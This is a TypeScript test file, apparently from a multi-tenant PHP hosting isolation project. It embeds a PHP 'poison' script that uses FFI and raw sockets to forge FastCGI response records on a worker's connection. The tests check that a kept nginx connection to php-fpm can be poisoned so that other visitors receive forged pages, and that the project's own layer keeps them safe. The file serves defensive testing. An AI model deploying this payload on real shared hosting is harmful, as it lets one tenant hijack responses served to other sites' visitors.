/**
 * A script answers by itself on whatever its worker answers on, and says false things about it. On a connection that
 * the web server keeps for all sites, one answer too many is another visitor's answer, and from then on everybody gets
 * somebody else's.
 */

import { rmSync } from 'node:fs';
import type { Test } from 'tap';
import { type Site, writeAs } from '../harness/guise.js';
import { get } from '../harness/http.js';
import { arena, type Web } from './arena.js';
import { ffi, ffiPool, libc } from './native.js';

/**
 * `?how=`: what is written and said. The number of the job is a counter that a worker can read in its memory; here all
 * that it can be are tried. A note: type, sequence, flags, status, four counts, found, reserved.
 */
const poison = `${libc}<?php
[$connection] = sockets(STREAM);
$answer = record(6, "Content-Type: text/plain\\r\\n\\r\\nthe attack begins");
$end = record(3, str_repeat("\\0", 8));
$forged = record(6, "Content-Type: text/plain\\r\\n\\r\\nforged") . $end;
$write = fn (string $bytes) => $c->send($connection, $bytes, strlen($bytes), 0x4000);
$say = function (int $type, int $flags, int $status) use ($c): void {
    [$channel] = sockets(SEQPACKET);
    for ($sequence = 1; $sequence < 3000; $sequence++) {
        $c->send($channel, pack('V4P4V2', $type, $sequence, $flags, $status, 20, 0, 0, 0, 0, 0), 56, 0x4000);
    }
};
switch ($_GET['how']) {
    case 'two answers': $write($answer . $end . $forged); break;
    case 'later answer': $write($answer . $end); usleep(300000); $write($forged); break;
    case 'refused': $write($answer . $end); usleep(300000); $say(3, 0, 3); break;
    case 'refused half': $write(substr($answer, 0, -5)); usleep(300000); $say(3, 0, 3); break;
    case 'done twice': $write($answer . $end); usleep(300000); $say(2, 1, 200); $say(2, 1, 200); break;
    case 'done without end': $say(2, 1, 200); break;
    case 'died': $write($answer . $end); usleep(300000); posix_kill(getmypid(), 9); break;
    case 'other request': $write(record(6, "\\r\\nforged", 2) . record(3, str_repeat("\\0", 8), 2)); break;
    case 'management': $write(record(10, 'forged', 0)); break;
    case 'overloaded': $write(record(3, "\\0\\0\\0\\0\\2\\0\\0\\0")); break;
    case 'early end': $write(record(6, '') . $answer . $end); break;
    case 'holds':
        $write($answer . $end);
        for ($i = 0; $i < 800 && !file_exists(__DIR__ . '/release'); $i++) { usleep(10000); clearstatcache(); }
        break;
}`;

const ways = [
  'two answers',
  'later answer',
  'refused',
  'refused half',
  'done twice',
  'done without end',
  'died',
  'other request',
  'management',
  'overloaded',
  'early end',
  'holds',
] as const;

await arena(
  async (t, { alice, bob, fpm, guise }) => {
    const attack = (web: Web, how: string): Promise<string> =>
      get(web.at(alice), `/poison.php?how=${encodeURIComponent(how)}`, { deadlineMs: 1500 }).then(
        (reply) => reply.text(),
        () => 'no answer',
      );
    /** Visitors of both sites, one after another: what each gets, and how long the slowest waited. */
    const visit = async (t: Test, web: Web): Promise<void> => {
      const started = performance.now();
      for (const site of [bob, alice, bob, alice, bob] as Site[]) {
        const reply = await get(web.at(site), '/index.php', { deadlineMs: 4000 }).catch(() => undefined);
        t.equal(reply?.text(), `front page of ${site.name}`);
      }
      t.ok(performance.now() - started < 5000, 'and nobody waits for her');
    };

    await t.test('php-fpm: on a kept connection of her pool the answers are hers to forge', async (t) => {
      const [, nginx] = fpm.webs;
      if (nginx === undefined) throw new Error('there is no nginx');
      t.equal(await attack(nginx, 'later answer'), 'the attack begins');
      const reply = await get(nginx.at(alice), '/index.php');
      t.equal(reply.text(), 'forged', 'the next visitor gets what she wrote');
    });

    for (const web of guise.webs) {
      for (const how of ways) {
        await t.test(`guise behind ${web.name}: ${how}`, async (t) => {
          rmSync(`${alice.root}/release`, { force: true });
          await attack(web, how);
          await visit(t, web);
          writeAs(alice, 'release', '');
        });
      }
    }
  },
  {
    nginx: true,
    kept: true,
    pools: { lines: () => ffiPool },
    alice: { args: ffi, files: { 'poison.php': poison } },
  },
);
